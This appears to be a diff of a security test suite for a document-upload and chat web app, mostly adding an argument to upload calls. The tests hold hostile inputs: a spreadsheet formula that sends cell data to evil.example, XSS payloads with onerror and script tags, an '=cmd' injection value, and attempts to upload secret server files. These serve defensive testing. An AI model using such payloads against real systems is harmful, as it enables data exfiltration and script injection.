@@ -149,12 +149,12 @@ def test_staff_upload_accepts_only_files_uploaded_through_the_page(target, tmp_p
     staff = signed_in(target.url, STAFF)
     upload_fn = fn_index(client(target.url, auth=STAFF), "staff_upload")
     for path in target.secret_files:
-        out = queue_call(staff, upload_fn, [[file_object(path)]])
+        out = queue_call(staff, upload_fn, [[file_object(path)], "general"])
         assert '"success": false' in out.replace('"success":false', '"success": false')
         assert target.canary not in out
     # what staff really upload still works
     doc = write_text(tmp_path / "heron.txt", "The heron tariff is 420 euros.")
-    summary, *_ = call(client(target.url, auth=STAFF), "staff_upload", [handle_file(str(doc))])
+    summary, *_ = call(client(target.url, auth=STAFF), "staff_upload", [handle_file(str(doc))], "general")
     assert "1 added" in summary
 
 
@@ -229,7 +229,7 @@ def test_votes_are_validated_and_feedback_exports_as_text(target):
     like_fn = next(d["id"] for d in c.config["dependencies"] if any(t[1] == "like" for t in d["targets"]))
     session = uuid.uuid4().hex[:11]
     question = '=HYPERLINK("http://evil.example/?leak="&A1,"Who co-finances INNAXE?")'
-    assert "co-finance" in queue_call(http, chat_fn, [question, None], session_hash=session)
+    assert "co-finance" in queue_call(http, chat_fn, [question, [], None], session_hash=session)
     store = FeedbackStore.open(f"sqlite:///{target.data_dir / 'records.sqlite'}")
     before = len(store.items())
     like = {"index": 1, "value": "", "liked": "=cmd"}
@@ -252,7 +252,9 @@ def test_unicode_upload_names_are_kept_and_similar_names_never_replace_each_othe
         write_text(tmp_path / "a" / "a b.txt", "The spaced file says the owl count was 12."),
         write_text(tmp_path / "b" / "a_b.txt", "The underscored file says the owl count was 19."),
     ]
-    summary, report, documents, *_ = call(staff, "staff_upload", [handle_file(str(d)) for d in docs])
+    summary, report, documents, *_ = call(
+        staff, "staff_upload", [handle_file(str(d)) for d in docs], "general"
+    )
     assert "3 added" in summary, report
     sources = {row[1] for row in documents["data"]}
     assert {"uploads/文件.txt", "uploads/a_b.txt", f"uploads/{safe_filename('a b.txt')}"} <= sources
@@ -266,7 +268,7 @@ def test_document_and_question_html_is_shown_as_text_in_the_chat(target, tmp_pat
         tmp_path / "pixels.txt",
         'The pixel policy bans <img src="http://evil.example/p.gif" onerror="alert(1)"> tracking images.',
     )
-    call(client(target.url, auth=STAFF), "staff_upload", [handle_file(str(doc))])
+    call(client(target.url, auth=STAFF), "staff_upload", [handle_file(str(doc))], "general")
     messages = chat(client(target.url), "What does the pixel policy ban? <script>alert(2)</script>")
     shown = "".join(message_text(m) for m in messages)
     assert "&lt;img" in shown and "&lt;script&gt;" in shown
@@ -448,7 +450,7 @@ def test_warnings_at_start_for_a_malformed_hash_and_a_missing_corpus(make_settin
 # --- fuzzing ----------------------------------------------------------------------------------------
 
 JSON = st.recursive(
-    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=50),
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=50),
     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
     max_leaves=12,
 )
